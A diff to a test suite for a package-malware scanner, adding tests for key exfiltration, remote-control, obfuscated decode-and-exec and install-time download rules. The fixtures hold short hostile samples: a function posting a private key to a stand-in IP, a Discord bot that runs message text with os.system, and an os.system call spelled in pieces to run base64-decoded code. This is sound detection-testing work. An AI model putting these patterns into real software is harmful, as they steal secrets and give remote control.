@@ -1796,6 +1796,84 @@ def test_user_rule_with_cap_feeds_the_engine(tmp_path: Path) -> None:
 
 
 # ---- catalogue coverage --------------------------------------------------------------------------
+def test_exfil_flow_fires_in_called_code(tmp_path: Path, scanner: Scanner) -> None:
+    """A helper that posts the private key it is given to a bare IP: malicious although only called."""
+    code = (
+        "import requests\n\n"
+        "def transfer(private_key, to):\n"
+        "    body = {'to': to, 'k': private_key}\n"
+        "    requests.post('http://192.0.2.8:8000/tx', json=body)\n"
+    )
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/wallet.py": code}), scanner)
+    assert_fires(result, "exfil-flow", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_exfil_flow_benign_key_only_signs(tmp_path: Path, scanner: Scanner) -> None:
+    code = (
+        "import requests\n\n"
+        "def transfer(private_key, to):\n"
+        "    signed = sign_transaction({'to': to}, private_key)\n"
+        "    requests.post('http://192.0.2.8:8000/tx', json={'raw': signed})\n"
+    )
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/wallet.py": code}), scanner)
+    assert_quiet(result, "exfil-flow", not_verdict=Verdict.MALICIOUS)
+
+
+def test_remote_control_fires(tmp_path: Path, scanner: Scanner) -> None:
+    """A Discord bot whose command handler hands the message to a shell: a remote shell."""
+    code = (
+        "import os\nimport discord\n\nclient = discord.Client()\n\n"
+        "@client.event\nasync def on_message(message):\n    os.system(message.content)\n"
+    )
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/bot.py": code}), scanner)
+    assert_fires(result, "remote-control", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_decode_exec_fires_through_a_function_spelled_in_pieces(tmp_path: Path, scanner: Scanner) -> None:
+    """`run = eval("o" + "s.sys" + "tem")` hides os.system; what it runs was decoded from base64."""
+    body = (
+        f"command = base64.b64decode({b64(INERT_CODE)!r}).decode()\n"
+        "run = eval('o' + 's.sy' + 'stem')\n"
+        "run(command)\n"
+    )
+    result = scan(write_sdist(tmp_path, setup_py=setup_py(body, "import base64\n")), scanner)
+    assert_fires(result, "decode-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_decode_exec_benign_eval_of_a_spelled_setting(tmp_path: Path, scanner: Scanner) -> None:
+    code = "import settings\n\nDEBUG = eval('settings.' + 'DEBUG')\nLEVEL = eval('1 + 2')\n"
+    result = scan(write_sdist(tmp_path, {f"{DEFAULT_NAME}/conf.py": code}), scanner)
+    assert_quiet(result, "obfuscated-exec", not_verdict=Verdict.SUSPICIOUS)
+
+
+def test_install_process_fires_for_wget_with_options_before_the_address(
+    tmp_path: Path, scanner: Scanner
+) -> None:
+    code = (
+        "import os\n\ndef install():\n"
+        "    os.system('wget -O ~/.cache/x.py https://example.invalid/x.txt')\n\n"
+    )
+    files = {
+        f"{DEFAULT_NAME}/__init__.py": "from .installer import install\ninstall()\n",
+        f"{DEFAULT_NAME}/installer.py": code,
+    }
+    result = scan(write_sdist(tmp_path, files), scanner)
+    assert_fires(result, "install-process", Verdict.MALICIOUS, severity=Severity.CRITICAL)
+
+
+def test_install_process_benign_wget_helper_only_called(tmp_path: Path, scanner: Scanner) -> None:
+    code = (
+        "import os\n\ndef fetch(dest):\n"
+        "    os.system('wget -O ' + dest + ' https://example.invalid/data.csv')\n"
+    )
+    files = {
+        f"{DEFAULT_NAME}/__init__.py": "from .installer import fetch\n",
+        f"{DEFAULT_NAME}/installer.py": code,
+    }
+    result = scan(write_sdist(tmp_path, files), scanner)
+    assert_quiet(result, "install-process", not_verdict=Verdict.MALICIOUS)
+
+
 # Carrier rules (pickles, YAML, bytecode, disguised files) are tested in test_carriers.py.
 carriers_serialized_exec = test_carriers.test_malicious_pickle_loaded_at_import_is_malicious
 carriers_sourceless_bytecode = test_carriers.test_sourceless_bytecode_module_is_suspicious
@@ -1820,6 +1898,8 @@ POSITIVE_TESTS: dict[str, str] = {
     "sabotage": "test_sabotage_fires",
     "persistence": "test_persistence_fires",
     "exfil-sink": "test_exfil_sink_fires",
+    "exfil-flow": "test_exfil_flow_fires_in_called_code",
+    "remote-control": "test_remote_control_fires",
     "raw-ip-url": "test_raw_ip_url_fires",
     "pip-install-runtime": "test_pip_install_runtime_fires",
     "hidden-shell": "test_hidden_shell_fires",
